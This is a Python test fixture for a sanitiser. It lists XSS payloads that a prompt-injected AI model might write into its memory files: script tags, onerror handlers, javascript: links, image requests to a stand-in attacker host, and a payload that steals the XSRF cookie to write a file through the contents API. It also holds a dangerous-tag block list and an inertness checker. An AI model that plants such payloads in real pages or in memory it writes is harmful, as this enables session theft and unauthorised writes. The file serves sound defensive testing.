"""Memory text a prompt-injected model might write, and a check that rendered HTML is inert.

Each payload names its own marker (``alert('img')`` ...) so a test can tell which one ran or
survived, and every URL points at ``attacker.invalid`` (a reserved name that never resolves),
so a browser test can see any request a payload made.
"""

from __future__ import annotations

from html.parser import HTMLParser

ATTACKER_HOST = "attacker.invalid"

# name -> Markdown/HTML as a model could write it into FACT.md or a journal entry.
PAYLOADS: dict[str, str] = {
    "img": f"<img src=\"http://{ATTACKER_HOST}/img.png\" onerror=\"alert('img')\">",
    "script": "<script>alert('script')</script>",
    "details": "<details open ontoggle=\"alert('details')\"><summary>open me</summary></details>",
    "iframe": "<iframe srcdoc=\"<script>parent.alert('iframe')</script>\"></iframe>",
    "style": f"<style>body {{ background: url(http://{ATTACKER_HOST}/style.png) }}</style>",
    "svg": "<svg onload=\"alert('svg')\"></svg>",
    "raw-link": "<a href=\"javascript:alert('raw-link')\">raw link</a>",
    "md-link": "[click me](javascript:alert('md-link'))",
    "data-link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-image": f"![tracker](http://{ATTACKER_HOST}/md.png?secret=xsrf)",
    # Reads the XSRF cookie and writes a file through the contents API, as the issue showed.
    "contents-write": (
        "<img src=x onerror=\"fetch('/api/contents/pwned.txt',{method:'PUT',headers:"
        "{'X-XSRFToken':document.cookie.split('_xsrf=')[1]},body:JSON.stringify("
        "{type:'file',format:'text',content:'pwned'})})\">"
    ),
    "mathjax": "$\\href{javascript:alert('mathjax')}{math link}$",
}

#: One FACT.md holding every payload between ordinary facts, one payload per paragraph.
HOSTILE_FACTS = (
    "# Facts\n\n- The user prefers metric units.\n\n"
    + "\n\n".join(PAYLOADS.values())
    + "\n\n- A [safe link](https://example.org/docs) stays a link.\n"
)

DANGEROUS_TAGS = frozenset(
    {"script", "iframe", "style", "img", "svg", "object", "embed", "frame", "link", "meta",
     "base", "form", "input", "details", "math", "template"}
)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")


class _Elements(HTMLParser):
    """Collects every start tag with its attributes, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(fragment: str) -> tuple[list[tuple[str, dict[str, str]]], str]:
    """The elements (tag, attributes) of an HTML fragment and its text as a browser shows it."""
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    return parser.elements, "".join(parser.text)


def assert_inert(fragment: str) -> str:
    """Fail unless ``fragment`` has no element, attribute or URL that can run or fetch.

    Returns the fragment's text, for checks that the payloads are still visible as text.
    """
    elements, text = parse(fragment)
    for tag, attrs in elements:
        assert tag not in DANGEROUS_TAGS, f"<{tag}> survived in {fragment!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name}= on <{tag}> survived"
            assert name not in ("srcdoc", "src"), f"{name}= on <{tag}> survived"
            if name == "style":  # only the views' own fixed styles, which load nothing
                assert "url(" not in value and "expression(" not in value, value
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                lowered = "".join(value.split()).lower()
                assert not lowered.startswith(DANGEROUS_SCHEMES), f"{name}={value!r} survived"
                assert ATTACKER_HOST not in value or tag == "a", f"{name}={value!r} fetches"
    return text
